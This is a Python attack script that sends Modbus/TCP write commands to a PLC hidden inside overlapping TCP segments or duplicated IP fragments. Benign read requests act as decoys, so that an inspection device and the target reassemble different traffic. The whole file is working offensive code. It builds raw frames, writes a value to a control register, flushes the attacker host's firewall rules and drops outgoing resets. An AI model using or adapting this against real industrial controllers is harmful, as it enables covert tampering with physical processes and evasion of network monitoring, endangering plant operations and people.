"""Modbus writes hidden in overlapping TCP segments or IP fragments.

    attack_overlap.py PLC segments|fragments TIMES

Segments: the second half of a request is sent ahead of the first, twice, the decoy (a read's) first; Linux keeps
what came first, another stack what came last. Fragments: the same in IP, with the middle fragment doubled.
"""

import socket
import struct
import subprocess
import sys
import time
from pathlib import Path

from rawlink import ACK, PSH, Talk, ipv4, link, own_mac, packed, tcp

plc, what, times = sys.argv[1], sys.argv[2], int(sys.argv[3])
# The attacker's kernel knows nothing of these connections and must not reset them.
RULES = """table ip own {
  chain output {
    type filter hook output priority 0; policy accept;
    tcp flags & rst == rst drop
  }
}
"""


def mac_of(address: str) -> bytes:
    """From the kernel's ARP table, after it has asked."""
    with socket.create_connection((address, 502), timeout=3):
        pass
    for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[0] == address:
            return packed(fields[3])
    raise SystemExit(f"{address} has no hardware address")


def own_address() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        asked.connect((plc, 9))
        return str(asked.getsockname()[0])


def request(number: int, function: int, value: int) -> bytes:
    return struct.pack("!HHHBBHH", number, 0, 6, 1, function, 50, value)


def segments(talk: Talk, number: int) -> None:
    decoy, write = request(number, 3, 2), request(number, 6, 1600)
    talk.frame(talk.segment(PSH | ACK, decoy[6:], ahead=6))
    talk.frame(talk.segment(PSH | ACK, write[6:], ahead=6))
    time.sleep(0.02)
    talk.frame(talk.segment(PSH | ACK, write[:6]))
    talk.sequence += len(write)


def fragments(talk: Talk, number: int) -> None:
    """Fragments begin at multiples of eight bytes: TCP header and six bytes of MBAP are 26, so 24 and the rest."""
    body = tcp(talk.ends, talk.sequence, talk.acknowledged, PSH | ACK, request(number, 6, 1600))
    other = tcp(talk.ends, talk.sequence, talk.acknowledged, PSH | ACK, request(number, 3, 2))
    more = 0x2000
    for data, place in ((other[24:], 3), (body[24:], 3), (body[:24], more)):
        talk.frame(ipv4(talk.ends[0], talk.ends[2], data, number=0x7000 + number, fragment=place))
    talk.sequence += 12


subprocess.run(["nft", "flush", "ruleset"], check=True)
subprocess.run(["nft", "-f", "-"], input=RULES, text=True, check=True)
macs = (own_mac(), mac_of(plc))
for turn in range(times):
    talk = Talk(link(), macs, (own_address(), 40100 + turn + 50 * (what == "fragments"), plc, 502))
    talk.open()
    time.sleep(0.02)
    (segments if what == "segments" else fragments)(talk, turn + 1)
    try:
        talk.receive()
    except TimeoutError:
        print("no answer")
    talk.frame(talk.segment(ACK))
    talk.close()
    time.sleep(0.2)
